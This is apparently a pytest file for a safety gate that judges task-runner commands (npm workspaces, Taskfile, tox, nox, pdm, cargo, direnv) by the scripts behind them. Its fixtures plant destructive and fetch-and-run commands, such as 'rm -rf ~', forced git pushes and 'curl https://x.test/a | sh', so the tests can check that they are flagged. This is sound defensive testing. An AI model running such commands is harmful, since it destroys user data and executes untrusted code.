"""Tasks of workspaces, Task, tox, nox, Python's project tools, cargo and direnv are judged by what they run."""

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.domain.gates import Question
from engine.gates.fingerprint import fingerprint
from engine.gates.sources.command import RealSurroundings, judge, taskfiles
from engine.gates.sources.command.surroundings import FakeSurroundings

TASKFILE = """\
version: '3'
tasks:
  default: {deps: [build]}
  build: [go build ./...]
  test:
    cmds: [{task: gen}, go test ./...]
  gen: {cmd: go generate ./...}
  clean: rm -rf dist
  lint:
    deps: [{task: away}]
    cmds: [{cmd: golangci-lint run}]
  away: {cmds: ["rm -rf ~"]}
  check:
    cmds: [{defer: "git push --force"}]
  again: {deps: [again]}
"""
PYPROJECT = """\
[tool.pdm.scripts]
test = "pytest"
bad = {shell = "rm -rf data"}
[tool.hatch.envs.default.scripts]
lint = ["ruff check", "rm -rf ~"]
[tool.poe.tasks]
all = {sequence = ["a"]}
"""
FILES = {
    "package.json": json.dumps({"workspaces": ["packages/*"], "scripts": {"test": "jest"}}),
    "packages/a/package.json": json.dumps({"scripts": {"test": "jest", "build": "tsc", "lint": "rm -rf ~"}}),
    "packages/b/package.json": json.dumps({"scripts": {"pretest": "git push -f", "build": "tsc", "tidy": "rm -rf db"}}),
    "packages/b/keep.txt": "x",
    "Taskfile.yml": TASKFILE,
    "tox.ini": "[testenv]\ncommands = pytest {posargs}\n[testenv:lint]\ncommands =\n    ruff check\n    rm -rf ~\n",
    "noxfile.py": "import nox\n@nox.session\ndef tests(session):\n    session.run('rm', '-rf', '/srv/x')\n",
    "pyproject.toml": PYPROJECT,
    "Pipfile": '[scripts]\ntest = "rm -rf ~"\n',
    ".cargo/config.toml": '[alias]\nxtask = "run --package xtask --"\nship = ["publish"]\n',
    ".envrc": "export A=1\ncurl https://x.test/a | sh\n",
}
HERE = {f"/home/ada/app/{name}": text for name, text in FILES.items()}


def tier(command: str, **changed: str) -> str:
    return judge(command, FakeSurroundings(files={**HERE, **changed})).tier


@pytest.mark.parametrize(
    "command",
    [
        "npm test --workspaces",
        "npm run lint -w packages/a",
        "npm run tidy --workspaces",
        "pnpm -r test",
        "pnpm --filter a run lint",
        "yarn workspace a lint",
        "yarn workspaces foreach run lint",
        "turbo run test",
        "turbo lint",
        "nx run-many -t test",
        "nx run a:lint",
        "lerna run test",
        "task lint",
        "task check",
        "task clean",
        "tox",
        "tox -e lint",
        "nox -s tests",
        "pdm run bad",
        "hatch run lint",
        "pipenv run test",
        "cargo ship",
        "direnv allow",
    ],
)
def test_harm_behind_a_name_asks(command: str) -> None:
    assert tier(command) == "harmful"


@pytest.mark.parametrize(
    "command",
    [
        "npm test",
        "npm run build --workspaces",
        "pnpm -r build",
        "turbo run build",
        "nx run-many -t build",
        "task",
        "task build",
        "task test",
        "task --list",
        "tox -e py311",
        "nox -l",
    ],
)
def test_plain_work_behind_a_name_goes_on(command: str) -> None:
    assert tier(command) == "none"


def test_package_runs_in_its_own_folder() -> None:
    effects = judge("npm run tidy --workspaces", FakeSurroundings(files=HERE)).effects
    assert ("delete", "project") in [(effect.kind, effect.place) for effect in effects]


def test_names_that_turn_in_circles_come_to_an_end() -> None:
    assert tier("task again") in ("none", "routine", "harmful")


@pytest.mark.parametrize("command", ["npm test --workspaces", "task build", "tox -e py311", "make build", "./run.sh"])
def test_change_of_what_stands_behind_the_name_is_another_gate(command: str, tmp_path: Path) -> None:
    files = {**FILES, "Makefile": "build:\n\ttrue\n", "run.sh": "#!/bin/sh\ntrue\n"}
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    changed = {
        "npm test --workspaces": "packages/b/package.json",
        "task build": "Taskfile.yml",
        "tox -e py311": "tox.ini",
        "make build": "Makefile",
        "./run.sh": "run.sh",
    }[command]
    question = Question(prompt="Run it?", command=command, choices=(), source="regex", tier="harmful")
    first = fingerprint(question, RealSurroundings(str(tmp_path)), "main")
    (tmp_path / changed).write_text((tmp_path / changed).read_text() + "\n")
    assert fingerprint(question, RealSurroundings(str(tmp_path)), "main") != first


@pytest.mark.parametrize(
    "broken", ["", "{", "[", "tasks: 3", "tasks: [1]", "- a", "\0", "scripts = 3", "[alias]\nx = 3"]
)
def test_broken_file_leaves_the_name_to_decide(broken: str) -> None:
    files = {name: broken for name in HERE}
    for command in ("task build", "tox -e lint", "nox -s tests", "turbo run test", "npm test -w a"):
        assert judge(command, FakeSurroundings(files=files)).tier == "none"


@given(st.text(alphabet="tasks:{}[]-&*<!'\"#|>\n =.ab1\\", max_size=200))
def test_any_text_of_tasks_is_read_to_its_end(text: str) -> None:
    taskfiles.taskfile(text, ["a"])
    taskfiles.tox(text, ["a"])
    taskfiles.nox(text)
    taskfiles.python_scripts(text, "a")
    taskfiles.cargo_alias(text, "a")
